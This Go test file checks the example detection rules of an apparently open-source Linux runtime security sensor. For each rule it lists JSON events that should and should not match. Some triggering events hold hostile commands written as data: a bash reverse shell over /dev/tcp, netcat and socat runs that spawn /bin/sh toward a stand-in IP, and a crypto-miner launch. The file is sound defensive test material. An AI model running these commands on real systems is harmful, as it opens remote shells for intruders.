// Copyright The Picket Authors
// SPDX-License-Identifier: Apache-2.0

package policy

import (
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"
	"golang.org/x/sys/unix"

	"github.com/picketsec/picket/internal/event"
	"github.com/picketsec/picket/internal/secl"
)

// exampleEvents has for each rule of examples/policies an event that it is for, and ordinary ones that it must not match.
var exampleEvents = map[string]struct {
	hit   []string
	quiet []string
}{
	"cron_file_written": {
		hit: []string{
			`{"type":"open","open.file.path":"/etc/cron.d/x","open.flags":"O_WRONLY|O_CREAT","process.file.name":"bash","process.ancestors":[{"file.name":"sshd"}]}`,
			`{"type":"open","open.file.path":"/var/spool/cron/crontabs/root","open.flags":"O_RDWR","process.file.name":"vi"}`,
		},
		quiet: []string{
			`{"type":"open","open.file.path":"/etc/cron.d/x","open.flags":"O_RDONLY","process.file.name":"cron"}`,
			`{"type":"open","open.file.path":"/etc/cron.d/x.dpkg-new","open.flags":"O_WRONLY|O_CREAT","process.file.name":"dpkg"}`,
			`{"type":"open","open.file.path":"/etc/cron.daily/x","open.flags":"O_WRONLY|O_CREAT","process.file.name":"sed","process.ancestors":[{"file.name":"dash"},{"file.name":"dpkg"},{"file.name":"apt-get"}]}`,
		},
	},
	"kernel_module_from_unusual_place": {
		hit: []string{
			`{"type":"load_module","load_module.loaded_from_memory":true,"load_module.name":"x"}`,
			`{"type":"load_module","load_module.file.path":"/tmp/x.ko","load_module.name":"x","process.file.name":"insmod"}`,
		},
		quiet: []string{
			`{"type":"load_module","load_module.file.path":"/usr/lib/modules/6.1.0-18-amd64/kernel/net/x.ko","process.file.name":"kmod"}`,
			`{"type":"load_module","load_module.file.path":"/var/lib/dkms/x/x.ko","process.file.name":"kmod","process.ancestors":[{"file.name":"dkms"}]}`,
		},
	},
	"selinux_switched_off": {
		hit:   []string{`{"type":"selinux","selinux.enforce.status":"permissive","process.file.name":"setenforce"}`, `{"type":"selinux","selinux.enforce.status":"disabled"}`},
		quiet: []string{`{"type":"selinux","selinux.enforce.status":"enforcing"}`, `{"type":"selinux","selinux.bool.name":"x","selinux.bool.state":"off"}`},
	},
	"sensor_killed": {
		hit: []string{
			`{"type":"signal","signal.type":"SIGKILL","signal.target.file.name":"falco","process.file.name":"bash"}`,
			`{"type":"signal","signal.type":"SIGSTOP","signal.target.file.name":"picket","process.file.name":"kill"}`,
		},
		quiet: []string{
			`{"type":"signal","signal.type":"SIGTERM","signal.target.file.name":"auditd","process.file.name":"systemd"}`,
			`{"type":"signal","signal.type":"SIGHUP","signal.target.file.name":"falco","process.file.name":"logrotate"}`,
			`{"type":"signal","signal.type":"SIGKILL","signal.target.file.name":"sleep","process.file.name":"bash"}`,
		},
	},
	"process_memory_written_by_ptrace": {
		hit:   []string{`{"type":"ptrace","ptrace.request":"PTRACE_POKETEXT","process.file.name":"inject","ptrace.tracee.file.name":"sshd"}`},
		quiet: []string{`{"type":"ptrace","ptrace.request":"PTRACE_ATTACH","process.file.name":"strace"}`, `{"type":"ptrace","ptrace.request":"PTRACE_TRACEME","process.file.name":"x"}`},
	},
	"code_mapped_from_memfd": {
		hit:   []string{`{"type":"mmap","mmap.protection":"PROT_READ|PROT_EXEC","mmap.file.name":"memfd:x","process.file.name":"python3"}`},
		quiet: []string{`{"type":"mmap","mmap.protection":"PROT_READ|PROT_EXEC","mmap.file.name":"libc.so.6"}`, `{"type":"mmap","mmap.protection":"PROT_READ","mmap.file.name":"memfd:x"}`, `{"type":"mmap","mmap.protection":"PROT_EXEC","mmap.file.name":"memfd:doublemapper"}`},
	},
	"writable_code_in_unusual_program": {
		hit:   []string{`{"type":"mprotect","mprotect.req_protection":"VM_READ|VM_WRITE|VM_EXEC","process.file.path":"/dev/shm/x"}`},
		quiet: []string{`{"type":"mprotect","mprotect.req_protection":"VM_READ|VM_EXEC","process.file.path":"/dev/shm/x"}`, `{"type":"mprotect","mprotect.req_protection":"VM_READ|VM_WRITE|VM_EXEC","process.file.path":"/usr/bin/node"}`},
	},
	"file_system_mounted_in_container": {
		hit:   []string{`{"type":"mount","mount.fs_type":"ext4","mount.mountpoint.path":"/mnt","container.id":"abc","process.file.name":"mount"}`},
		quiet: []string{`{"type":"mount","mount.fs_type":"ext4","mount.mountpoint.path":"/mnt","process.file.name":"mount"}`, `{"type":"mount","mount.fs_type":"tmpfs","container.id":"abc","process.file.name":"mount"}`},
	},
	"became_root_without_login_program": {
		hit:   []string{`{"type":"setuid","setuid.uid":0,"process.uid":1000,"process.file.name":"exploit"}`},
		quiet: []string{`{"type":"setuid","setuid.uid":0,"process.uid":1000,"process.file.name":"sudo"}`, `{"type":"setuid","setuid.uid":33,"process.uid":0,"process.file.name":"apache2"}`, `{"type":"setuid","setuid.uid":0,"process.uid":0,"process.file.name":"cron"}`},
	},
	"file_capability_set": {
		hit:   []string{`{"type":"setxattr","setxattr.file.destination.name":"security.capability","setxattr.file.path":"/tmp/x","process.file.name":"setcap"}`},
		quiet: []string{`{"type":"setxattr","setxattr.file.destination.name":"security.capability","process.file.name":"setcap","process.ancestors":[{"file.name":"dash"},{"file.name":"dpkg"}]}`, `{"type":"setxattr","setxattr.file.destination.name":"user.x","process.file.name":"setfattr"}`},
	},
	"program_time_changed": {
		hit:   []string{`{"type":"utimes","utimes.file.path":"/usr/bin/ls","process.file.name":"touch"}`},
		quiet: []string{`{"type":"utimes","utimes.file.path":"/usr/bin/ls","process.file.name":"dpkg"}`, `{"type":"utimes","utimes.file.path":"/home/u/x","process.file.name":"touch"}`},
	},
	"bpf_program_loaded_from_unusual_place": {
		hit:   []string{`{"type":"bpf","bpf.cmd":"BPF_PROG_LOAD","bpf.prog.name":"x","process.file.path":"/tmp/x"}`},
		quiet: []string{`{"type":"bpf","bpf.cmd":"BPF_PROG_LOAD","process.file.path":"/usr/lib/systemd/systemd"}`, `{"type":"bpf","bpf.cmd":"BPF_MAP_CREATE","process.file.path":"/tmp/x"}`},
	},
	"mining_pool_looked_up": {
		hit:   []string{`{"type":"dns","dns.question.name":"pool.MINEXMR.com","dns.question.type":"A"}`},
		quiet: []string{`{"type":"dns","dns.question.name":"deb.debian.org","dns.question.type":"AAAA"}`, `{"type":"dns","dns.question.name":"minexmr.com.example.org"}`},
	},
	"cron_file_moved_in": {
		hit: []string{`{"type":"rename","rename.file.path":"/tmp/x","rename.file.destination.path":"/etc/cron.hourly/x","process.file.name":"mv"}`},
		quiet: []string{
			`{"type":"rename","rename.file.path":"/etc/cron.d/x.dpkg-new","rename.file.destination.path":"/etc/cron.d/x","process.file.name":"dpkg"}`,
			`{"type":"rename","rename.file.path":"/etc/cron.d/x","rename.file.destination.path":"/root/x","process.file.name":"mv"}`,
		},
	},
	"ssh_authorized_keys_written": {
		hit: []string{`{"type":"open","open.file.path":"/root/.ssh/authorized_keys","open.file.name":"authorized_keys","open.flags":"O_WRONLY|O_APPEND","process.file.name":"sh"}`},
		quiet: []string{
			`{"type":"open","open.file.path":"/root/.ssh/authorized_keys","open.file.name":"authorized_keys","open.flags":"O_RDONLY","process.file.name":"sshd"}`,
			`{"type":"open","open.file.path":"/root/.ssh/authorized_keys","open.file.name":"authorized_keys","open.flags":"O_RDWR|O_CREAT","process.file.name":"cloud-init"}`,
		},
	},
	"systemd_unit_written": {
		hit: []string{
			`{"type":"open","open.file.path":"/etc/systemd/system/x.service","open.flags":"O_WRONLY|O_CREAT","process.file.name":"tee"}`,
			`{"type":"open","open.file.path":"/home/u/.config/systemd/user/x.timer","open.flags":"O_WRONLY|O_CREAT","process.file.name":"python3.11"}`,
		},
		quiet: []string{
			`{"type":"open","open.file.path":"/usr/lib/systemd/system/x.service.dpkg-new","open.flags":"O_WRONLY|O_CREAT","process.file.name":"dpkg"}`,
			`{"type":"open","open.file.path":"/etc/systemd/system/x.service","open.flags":"O_RDONLY","process.file.name":"systemd"}`,
		},
	},
	"ld_so_preload_changed": {
		hit: []string{
			`{"type":"open","open.file.path":"/etc/ld.so.preload","open.flags":"O_WRONLY|O_CREAT","process.file.name":"sh"}`,
			`{"type":"rename","rename.file.path":"/tmp/x","rename.file.destination.path":"/etc/ld.so.preload"}`,
			`{"type":"link","link.file.path":"/etc/ld.so.preload"}`,
		},
		quiet: []string{
			`{"type":"open","open.file.path":"/etc/ld.so.preload","open.flags":"O_RDONLY|O_CLOEXEC","process.file.name":"ls"}`,
			`{"type":"open","open.file.path":"/etc/ld.so.cache","open.flags":"O_RDWR","process.file.name":"ldconfig"}`,
		},
	},
	"shell_from_web_server": {
		hit: []string{
			`{"type":"exec","exec.file.name":"dash","process.ancestors":[{"file.name":"nginx"}]}`,
			`{"type":"exec","exec.file.name":"bash","process.ancestors":[{"file.name":"php-fpm8.2"}]}`,
		},
		quiet: []string{
			`{"type":"exec","exec.file.name":"dash","process.ancestors":[{"file.name":"make"}]}`,
			`{"type":"exec","exec.file.name":"nginx","process.ancestors":[{"file.name":"nginx"}]}`,
		},
	},
	"download_from_web_server": {
		hit:   []string{`{"type":"exec","exec.file.name":"curl","process.ancestors":[{"file.name":"dash"},{"file.name":"apache2"}]}`},
		quiet: []string{`{"type":"exec","exec.file.name":"curl","process.ancestors":[{"file.name":"bash"},{"file.name":"sshd"}]}`},
	},
	"exec_from_world_writable_directory": {
		hit: []string{
			`{"type":"exec","exec.file.path":"/tmp/x","exec.file.name":"x","process.ancestors":[{"file.name":"bash"}]}`,
			`{"type":"exec","exec.file.path":"/dev/shm/.a/b/c","exec.file.name":"c"}`,
		},
		quiet: []string{
			`{"type":"exec","exec.file.path":"/tmp/go-build123/b001/x.test","exec.file.name":"x.test","process.ancestors":[{"file.name":"go"}]}`,
			`{"type":"exec","exec.file.path":"/tmp/build/conftest","exec.file.name":"conftest","process.ancestors":[{"file.name":"dash"}]}`,
			`{"type":"exec","exec.file.path":"/tmp/t/gen","exec.file.name":"gen","process.ancestors":[{"file.name":"make"}]}`,
			`{"type":"exec","exec.file.path":"/var/lib/dpkg/tmp.ci/preinst","exec.file.name":"preinst","process.ancestors":[{"file.name":"dpkg"}]}`,
			`{"type":"exec","exec.file.path":"/usr/bin/ls","exec.file.name":"ls"}`,
		},
	},
	"netcat_with_a_program": {
		hit: []string{
			`{"type":"exec","exec.file.name":"nc.traditional","exec.argv":["-e","/bin/sh","192.0.2.1","4444"]}`,
			`{"type":"exec","exec.file.name":"ncat","exec.argv":["-lvp","4444","--exec","/bin/bash"]}`,
			`{"type":"exec","exec.file.name":"nc","exec.argv":["-nve","/bin/sh","192.0.2.1","1"]}`,
			`{"type":"exec","exec.file.name":"socat","exec.argv":["TCP:192.0.2.1:1","EXEC:/bin/sh,pty"]}`,
		},
		quiet: []string{
			`{"type":"exec","exec.file.name":"nc.openbsd","exec.argv":["-z","localhost","5432"]}`,
			`{"type":"exec","exec.file.name":"sh","exec.argv":["-c","true"]}`,
		},
	},
	"shell_connected_to_network_device": {
		hit:   []string{`{"type":"exec","exec.file.name":"bash","exec.argv":["-c","bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}`},
		quiet: []string{`{"type":"exec","exec.file.name":"bash","exec.argv":["-c","echo > /dev/tcp/127.0.0.1/5432"]}`},
	},
	"crypto_miner_started": {
		hit: []string{
			`{"type":"exec","exec.file.name":"xmrig-6.21"}`,
			`{"type":"exec","exec.file.name":"kworkerd","exec.argv":["-o","stratum+tcp://pool.example:3333","-u","x"]}`,
		},
		quiet: []string{`{"type":"exec","exec.file.name":"cargo","exec.argv":["build","--release"]}`},
	},
	"package_manager_in_old_container": {
		hit: []string{`{"type":"exec","exec.file.name":"apt-get","process.container.id":"abc","process.container.created_at":"now-1h"}`},
		quiet: []string{
			`{"type":"exec","exec.file.name":"apt-get","process.container.id":"abc","process.container.created_at":"now-5s"}`,
			`{"type":"exec","exec.file.name":"apt-get"}`,
		},
	},
	"sudoers_written": {
		hit: []string{`{"type":"open","open.file.path":"/etc/sudoers.d/x","open.flags":"O_WRONLY|O_CREAT","process.file.name":"tee"}`},
		quiet: []string{
			`{"type":"open","open.file.path":"/etc/sudoers","open.flags":"O_RDONLY","process.file.name":"sudo"}`,
			`{"type":"open","open.file.path":"/etc/sudoers","open.flags":"O_RDWR|O_CREAT","process.file.name":"visudo"}`,
		},
	},
	"setuid_bit_set": {
		hit: []string{`{"type":"chmod","chmod.file.path":"/tmp/sh","chmod.file.destination.mode":"S_ISUID|S_IRWXU","process.file.name":"chmod"}`},
		quiet: []string{
			`{"type":"chmod","chmod.file.path":"/tmp/x","chmod.file.destination.mode":493,"process.file.name":"chmod"}`,
			`{"type":"chmod","chmod.file.path":"/usr/bin/sudo.dpkg-new","chmod.file.destination.mode":"S_ISUID|S_IRWXU","process.file.name":"dpkg"}`,
			`{"type":"chmod","chmod.file.path":"/usr/bin/su","chmod.file.destination.mode":"S_ISUID","process.file.name":"docker-untar","process.ancestors":[{"file.name":"dockerd"}]}`,
		},
	},
	"kernel_module_tool": {
		hit: []string{
			`{"type":"exec","exec.file.name":"kmod","exec.argv0":"insmod","process.ancestors":[{"file.name":"bash"}]}`,
			`{"type":"exec","exec.file.name":"kmod","exec.argv0":"/sbin/modprobe","exec.tty_name":"pts0","process.ancestors":[{"file.name":"bash"}]}`,
		},
		quiet: []string{
			`{"type":"exec","exec.file.name":"kmod","exec.argv0":"/sbin/modprobe","process.ancestors":[{"comm":"kworker/u8:1"}]}`,
			`{"type":"exec","exec.file.name":"kmod","exec.argv0":"lsmod","exec.tty_name":"pts0","process.ancestors":[{"file.name":"bash"}]}`,
			`{"type":"exec","exec.file.name":"kmod","exec.argv0":"depmod","process.ancestors":[{"file.name":"dash"},{"file.name":"dpkg"}]}`,
		},
	},
	"account_file_written": {
		hit: []string{`{"type":"open","open.file.path":"/etc/passwd","open.flags":"O_WRONLY|O_APPEND","process.file.name":"bash"}`},
		quiet: []string{
			`{"type":"open","open.file.path":"/etc/passwd","open.flags":"O_RDWR","process.file.name":"useradd"}`,
			`{"type":"open","open.file.path":"/etc/passwd","open.flags":"O_RDONLY|O_CLOEXEC","process.file.name":"ls"}`,
			`{"type":"open","open.file.path":"/etc/group","open.flags":"O_RDWR","process.file.name":"perl","process.ancestors":[{"file.name":"dpkg"}]}`,
		},
	},
	"password_hashes_read": {
		hit: []string{
			`{"type":"open","open.file.path":"/etc/shadow","open.flags":"O_RDONLY","process.file.name":"cat"}`,
			`{"type":"open","open.file.path":"/etc/shadow","open.flags":"O_RDONLY","open.retval":-13,"process.file.name":"python3.11"}`,
		},
		quiet: []string{
			`{"type":"open","open.file.path":"/etc/shadow","open.flags":"O_RDONLY|O_CLOEXEC","process.file.name":"unix_chkpwd"}`,
			`{"type":"open","open.file.path":"/etc/shadow","open.flags":"O_RDONLY","process.file.name":"cp","process.ancestors":[{"file.name":"dash"},{"file.name":"run-parts"},{"file.name":"cron"}]}`,
			`{"type":"open","open.file.path":"/etc/passwd","open.flags":"O_RDONLY","process.file.name":"cat"}`,
		},
	},
	"account_file_given_away": {
		hit: []string{`{"type":"chown","chown.file.path":"/etc/shadow","chown.file.destination.uid":1000}`},
		quiet: []string{
			`{"type":"chown","chown.file.path":"/etc/shadow","chown.file.destination.uid":0}`,
			`{"type":"chown","chown.file.path":"/etc/shadow","chown.file.destination.uid":-1}`,
			`{"type":"chown","chown.file.path":"/home/u/x","chown.file.destination.uid":1000}`,
		},
	},
	"account_file_linked": {
		hit: []string{`{"type":"link","link.file.path":"/etc/shadow","link.file.destination.path":"/tmp/s","process.file.name":"ln"}`},
		quiet: []string{
			`{"type":"link","link.file.path":"/etc/passwd.1234","link.file.destination.path":"/etc/passwd.lock","process.file.name":"useradd"}`,
		},
	},
	"log_deleted": {
		hit: []string{
			`{"type":"unlink","unlink.file.path":"/var/log/auth.log","unlink.file.name":"auth.log","process.file.name":"rm"}`,
			`{"type":"unlink","unlink.file.path":"/root/.bash_history","unlink.file.name":".bash_history","process.file.name":"rm"}`,
		},
		quiet: []string{
			`{"type":"unlink","unlink.file.path":"/var/log/auth.log.4.gz","unlink.file.name":"auth.log.4.gz","process.file.name":"logrotate"}`,
			`{"type":"unlink","unlink.file.path":"/var/log/apt/term.log","unlink.file.name":"term.log","process.file.name":"rm"}`,
		},
	},
	"log_truncated": {
		hit: []string{`{"type":"open","open.file.path":"/var/log/wtmp","open.flags":"O_WRONLY|O_CREAT|O_TRUNC","process.file.name":"bash"}`},
		quiet: []string{
			`{"type":"open","open.file.path":"/var/log/wtmp","open.flags":"O_WRONLY|O_APPEND","process.file.name":"login"}`,
			`{"type":"open","open.file.path":"/var/log/syslog","open.flags":"O_WRONLY|O_TRUNC","process.file.name":"logrotate"}`,
		},
	},
	"hidden_directory_in_world_writable_place": {
		hit: []string{`{"type":"mkdir","mkdir.file.path":"/tmp/.x","mkdir.file.name":".x","process.file.name":"mkdir"}`},
		quiet: []string{
			`{"type":"mkdir","mkdir.file.path":"/tmp/.X11-unix","mkdir.file.name":".X11-unix","process.file.name":"systemd-tmpfiles"}`,
			`{"type":"mkdir","mkdir.file.path":"/tmp/tmp.Aa12","mkdir.file.name":"tmp.Aa12","process.file.name":"mktemp"}`,
			`{"type":"mkdir","mkdir.file.path":"/tmp/build/.git","mkdir.file.name":".git","process.file.name":"git"}`,
		},
	},
	"listening_netcat_or_shell": {
		hit: []string{`{"type":"bind","bind.addr.family":"AF_INET","bind.addr.port":4444,"bind.addr.ip":"0.0.0.0","process.file.name":"nc.openbsd"}`},
		quiet: []string{
			`{"type":"bind","bind.addr.family":"AF_INET","bind.addr.port":80,"bind.addr.ip":"0.0.0.0","process.file.name":"nginx"}`,
			`{"type":"bind","bind.addr.family":"AF_UNIX","process.file.name":"nc.openbsd"}`,
		},
	},
	"connect_from_world_writable_program": {
		hit: []string{
			`{"type":"connect","connect.addr.family":"AF_INET","connect.addr.ip":"198.51.100.7","connect.addr.port":443,"process.file.path":"/tmp/.x/agent"}`,
			`{"type":"connect","connect.addr.family":"AF_INET6","connect.addr.ip":"2001:db8::1","connect.addr.port":443,"process.file.path":"/dev/shm/a"}`,
		},
		quiet: []string{
			`{"type":"connect","connect.addr.family":"AF_INET","connect.addr.ip":"127.0.0.1","connect.addr.port":443,"process.file.path":"/tmp/x"}`,
			`{"type":"connect","connect.addr.family":"AF_INET","connect.addr.ip":"198.51.100.7","connect.addr.port":443,"process.file.path":"/usr/bin/curl"}`,
			`{"type":"connect","connect.addr.family":"AF_INET","connect.addr.ip":"198.51.100.7","connect.addr.port":443,"process.file.path":"/tmp/go-build1/b001/x.test"}`,
		},
	},
}

// matching says which rules match a flat event, and checks that the event's log record gives the same.
func matching(t *testing.T, set *Set, flat string) map[string]bool {
	t.Helper()
	ev, err := event.ParseFlatEventAt([]byte(flat), start)
	require.NoError(t, err, flat)
	got := matches(set, ev)

	if c := ev.Connect; c != nil { // a sensor gives the address in the form of the schema too
		addr, ok := event.LookupField("connect.addr.ip")
		require.True(t, ok)
		ip := addr.IP(ev).Addr()
		ev.Network = &event.NetworkContext{Destination: event.IPPort{IP: ip, Port: c.Addr.Port}}
		ev.Facts.SocketFamily = unix.AF_INET
		if ip.Is6() {
			ev.Facts.SocketFamily = unix.AF_INET6
		}
	}
	lr := plog.NewLogRecord()
	event.EncodeRecord(ev, &event.Host{ID: "h"}, lr)
	var d event.Decoder
	var decoded event.Event
	require.NoError(t, d.DecodeRecord(lr, set.Need(ev.Type), &decoded))
	assert.Equal(t, got, matches(set, &decoded), "the record gives another result: %s\n%s", flat, lr.Body().Str())
	return got
}

func matches(set *Set, ev *event.Event) map[string]bool {
	c := &secl.Context{Event: ev, Now: start}
	got := map[string]bool{}
	for _, r := range set.Rules(ev.Type) {
		if r.Program.Match(c) {
			got[r.ID] = true
		}
	}
	return got
}

func TestExamples(t *testing.T) {
	set, report := Load([]string{filepath.Join("..", "..", "examples", "policies")}, Options{})
	require.Empty(t, report.Problems())
	for _, p := range report.Policies {
		for _, e := range append(p.Macros, p.Rules...) {
			assert.Empty(t, e.Message, e.ID)
		}
	}
	assert.Equal(t, sortedKeys(exampleEvents), sortedKeys(set.ids), "each rule has events, and each event its rule")
	for id, ev := range exampleEvents {
		t.Run(id, func(t *testing.T) {
			require.NotEmpty(t, ev.hit)
			require.NotEmpty(t, ev.quiet)
			for _, e := range ev.hit {
				assert.True(t, matching(t, set, e)[id], "not matched: %s", e)
			}
			for _, e := range ev.quiet {
				assert.Empty(t, matching(t, set, e), "matched: %s", e)
			}
		})
	}
}

func TestExamplesAreDescribed(t *testing.T) {
	set, _ := Load([]string{filepath.Join("..", "..", "examples", "policies")}, Options{})
	tactic, technique := regexp.MustCompile(`^tactic:TA\d{4}-[a-z-]+$`), regexp.MustCompile(`^technique:T\d{4}(\.\d{3})?-[a-z-]+$`)
	for typ := range event.NumTypes {
		for _, r := range set.Rules(typ) {
			tags := strings.Join(r.Info.Tags, "\n")
			assert.NotEmpty(t, r.Info.Description, r.ID)
			assert.NotEmpty(t, r.Info.Version, r.ID)
			assert.Contains(t, tags, "severity:", r.ID)
			var hasTactic, hasTechnique bool
			for _, tag := range r.Info.Tags {
				hasTactic = hasTactic || tactic.MatchString(tag)
				hasTechnique = hasTechnique || technique.MatchString(tag)
			}
			assert.True(t, hasTactic && hasTechnique, "%s: %q", r.ID, r.Info.Tags)
		}
	}
}
